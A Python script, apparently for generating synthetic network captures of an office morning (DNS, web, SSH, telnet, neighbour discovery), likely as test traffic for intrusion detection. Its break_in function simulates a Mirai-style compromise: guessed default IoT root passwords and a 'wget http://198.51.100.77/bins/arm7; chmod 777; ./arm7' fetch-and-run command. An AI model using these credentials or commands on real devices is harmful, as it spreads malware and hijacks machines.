"""Captures of many things at once: what every network carries, and an office morning."""

from __future__ import annotations

from dialogue import exchange, keep_busy, name_lookup, telnet_session, web
from scapy.layers.inet import ICMP
from scapy.layers.inet6 import ICMPv6EchoReply, ICMPv6EchoRequest, ICMPv6ND_NA, ICMPv6ND_NS, IPv6
from scapy.layers.l2 import ARP, Ether
from scapy.packet import Raw
from telnet_campaign import Visit
from telnet_captures import DESK, DESK_2, PLANT, PRESS, PRESS_2, PUBLIC, ROUTER, ROUTER_MAC, SCANNER
from traffic import ORIG, RESP, SECOND, Conversation, Host, Path, Traffic, ip_packet, unreachable

NAME_SERVER = Host("02:42:c0:a8:01:35", "192.168.1.53", "2001:db8:1::53")
WEB = tuple(Host(ROUTER_MAC, f"151.101.{i}.140", ttl=55) for i in (1, 65, 129, 193))
DESKS = tuple(Host(f"02:42:c0:a8:01:{0x50 + i:02x}", f"192.168.1.{80 + i}") for i in range(6))
STORE = Host(ROUTER_MAC, "198.51.100.77", ttl=52)
ABROAD = Host(ROUTER_MAC, "185.199.111.153", ttl=51)
NEAR = Path(one_way_ns=400_000)
FAR = Path(one_way_ns=9_000_000)
NAMES = ("intranet.example.com", "mail.example.com", "updates.example.net", "wiki.example.org")


def ping(traffic: Traffic, ends: tuple[Host, Host], at: float, count: int = 4) -> None:
    """ICMP echo requests, a second apart, each answered."""
    body = Raw(bytes(range(0x10, 0x40)))
    number = traffic.random.randrange(1 << 16)
    for i in range(count):
        for side, kind in ((0, 8), (1, 0)):
            src, dst = ends[side], ends[1 - side]
            packet = ip_packet(src, dst, False, traffic.random.randrange(1 << 16))
            when = int((at + i) * SECOND) + side * 700_000
            echo = ICMP(type=kind, id=number, seq=i + 1)
            traffic.add_packet(when, (src, dst), packet / echo / body)


def neighbours(traffic: Traffic, at: float) -> None:
    """ARP and IPv6 neighbour discovery between the desk and the router, and a ping in IPv6."""
    now = int(at * SECOND)
    ask = ARP(op=1, hwsrc=DESK.mac, psrc=DESK.v4, pdst=ROUTER.v4)
    tell = ARP(op=2, hwsrc=ROUTER.mac, psrc=ROUTER.v4, hwdst=DESK.mac, pdst=DESK.v4)
    everyone = "ff:ff:ff:ff:ff:ff"
    traffic.add(now, bytes(Ether(src=DESK.mac, dst=everyone) / ask))
    traffic.add(now + 300_000, bytes(Ether(src=ROUTER.mac, dst=DESK.mac) / tell))
    solicit = IPv6(src=DESK.v6, dst="ff02::1:ff00:1", hlim=255) / ICMPv6ND_NS(tgt=ROUTER.v6)
    traffic.add(now + 900_000, bytes(Ether(src=DESK.mac, dst="33:33:ff:00:00:01") / solicit))
    advert = IPv6(src=ROUTER.v6, dst=DESK.v6, hlim=255) / ICMPv6ND_NA(tgt=ROUTER.v6, R=1, S=1)
    traffic.add_packet(now + 1_300_000, (ROUTER, DESK), advert)
    for side, echo in ((0, ICMPv6EchoRequest), (1, ICMPv6EchoReply)):
        ends = (DESK, ROUTER) if side == 0 else (ROUTER, DESK)
        packet = ip_packet(*ends, True, 0) / echo(id=77, seq=1, data=b"sixteen octets!!")
        traffic.add_packet(now + 2_000_000 + side * 500_000, ends, packet)


def background(traffic: Traffic) -> None:
    """Names, web, pings, ARP and neighbour discovery: nothing to alert on."""
    neighbours(traffic, 0.0)
    for i, name in enumerate(NAMES):
        name_lookup(traffic, (DESK, NAME_SERVER), 41_000 + i, 0.4 + 1.7 * i, name)
        web(Conversation(traffic, (DESK, WEB[i]), (42_000 + i, 443), 0.45 + 1.7 * i, FAR))
    ping(traffic, (DESK, ROUTER), 2.0)


def office_web(traffic: Traffic) -> None:
    """Ten minutes of names looked up and pages read."""
    for i in range(12):
        desk, at = DESKS[i % len(DESKS)], 4.0 + 46.0 * i
        name_lookup(traffic, (desk, NAME_SERVER), 41_100 + i, at, NAMES[i % len(NAMES)])
        page = (desk, WEB[i % len(WEB)])
        web(Conversation(traffic, page, (42_100 + i, 443), at + 0.03, FAR), 1 + i % 3, 2_600)
    keep_busy(traffic, (DESK_2, DESKS[5]), 40_116, 590)


def secure_shell(traffic: Traffic, at: float) -> None:
    """An administrator's SSH session."""
    talk = Conversation(traffic, (DESK, PRESS), (43_200, 22), at, NEAR).open()
    talk.say(RESP, b"SSH-2.0-OpenSSH_9.2p1\r\n", 12)
    talk.say(ORIG, b"SSH-2.0-OpenSSH_9.2p1\r\n", 2)
    for size in (1080, 64, 220, 96, 180):
        exchange(talk, size, size + 40)
        talk.wait(800)
    talk.close(ORIG)


def device(number: int) -> Host:
    """One of the 16 machines of the hall."""
    return Host(f"02:42:c0:a8:03:{16 + number:02x}", f"192.168.3.{16 + number}")


def outside_scan(traffic: Traffic, at: float) -> None:
    """A scanner tries telnet on 16 addresses: 9 refuse, 4 stay silent, 2 are prohibited, 1 talks
    and is reset half open."""
    for i in range(16):
        talk = Conversation(traffic, (SCANNER, device(i)), (60_100 + i, 23), at + 0.21 * i, FAR)
        syn = talk.segment(ORIG, "S", options=[("MSS", 1460)], window=29_200)
        if i < 9:
            talk.refuse()
        elif i in (13, 14):
            unreachable(talk, syn, ROUTER, 13, 28)
        elif i == 15:
            talk.segment(RESP, "SA", options=[("MSS", 1460)], window=64_240)
            talk.reset(ORIG, "R")


def break_in(traffic: Traffic, at: float) -> None:
    """The scanner comes back to the one that talked, a recorder: it guesses, is in as root, and has
    a program fetched, which then tries to log in at a machine abroad.
    """
    recorder = device(15)
    guess = Visit(traffic, 0, (SCANNER, recorder), at)
    guess.begin()
    guess.fail("admin", "admin")
    guess.fail("root", "12345")
    guess.fail("root", "888888", "")
    guess.end()
    visit = Visit(traffic, 1, (SCANNER, recorder), at + 18)
    visit.begin()
    visit.fail("root", "vizxv")
    visit.whole("root", "root\r\nPassword: ")
    visit.whole("xc3511", "\r\n\r\nBusyBox v1.19 built-in shell (ash)\r\n# ")
    visit.whole("id", "id\r\nuid=0(root) gid=0(root)\r\n# ")
    order = "cd /tmp; wget http://198.51.100.77/bins/arm7"
    visit.whole(order, f"{order}\r\nConnecting to 198.51.100.77 (198.51.100.77:80)\r\n")
    fetch(traffic, (recorder, STORE), at + 21)
    visit.talk.wait(1_500)
    visit.s("arm7 100% |*****| 5600 0:00:00 ETA\r\n# ")
    visit.whole("chmod 777 arm7; ./arm7", "chmod 777 arm7; ./arm7\r\n# ")
    visit.whole("exit", "exit\r\n")
    visit.end()
    call = Visit(traffic, 2, (recorder, ABROAD), at + 40)
    call.begin()
    call.fail("root", "admin", "")
    call.end()


def fetch(traffic: Traffic, ends: tuple[Host, Host], at: float) -> None:
    """A file by HTTP, in four segments of octets that mean nothing."""
    talk = Conversation(traffic, ends, (40_113, 80), at, FAR).open()
    talk.say(ORIG, b"GET /bins/arm7 HTTP/1.1\r\nHost: 198.51.100.77\r\nUser-Agent: Wget\r\n\r\n", 2)
    talk.say(RESP, b"HTTP/1.1 200 OK\r\nContent-Length: 5600\r\nConnection: close\r\n\r\n", 4)
    for _ in range(4):
        talk.say(RESP, traffic.random.randbytes(1400), 2)
    talk.close(RESP)


def stray_answers(traffic: Traffic, at: float) -> None:
    """Someone forges our addresses elsewhere: the answers of their victim arrive here."""
    for i in range(3):
        victim = Host(ROUTER_MAC, f"185.199.108.{40 + i}", ttl=49)
        talk = Conversation(traffic, (DESKS[i], victim), (2_000 + 77 * i, 23), at + i)
        talk.segment(RESP, "SA", options=[("MSS", 1460)], window=65_160)


def demo(traffic: Traffic) -> None:
    """Ten minutes of an office: web, names, SSH, three telnet logins of its people; and a scan from
    outside, after which a recorder is broken into.
    """
    office_web(traffic)
    neighbours(traffic, 1.0)
    ping(traffic, (DESK, ROUTER), 20.0)
    secure_shell(traffic, 33.0)
    telnet_session(Conversation(traffic, (DESK, PRESS), (50_600, 23), 61.0, NEAR))
    outside_scan(traffic, 120.0)
    stray_answers(traffic, 171.0)
    refused = Conversation(traffic, (DESK, PRESS_2), (50_602, 23), 214.0, NEAR)
    refused.syn()
    refused.refuse()
    plant = Conversation(traffic, (DESK_2, PLANT), (50_610, 23), 260.0, Path(one_way_ns=2_000_000))
    telnet_session(plant, "operator", "mixer-2")
    abroad = Conversation(traffic, (DESKS[3], PUBLIC), (50_620, 23), 402.0, FAR)
    telnet_session(abroad, "visitor", "mud")
    break_in(traffic, 430.0)
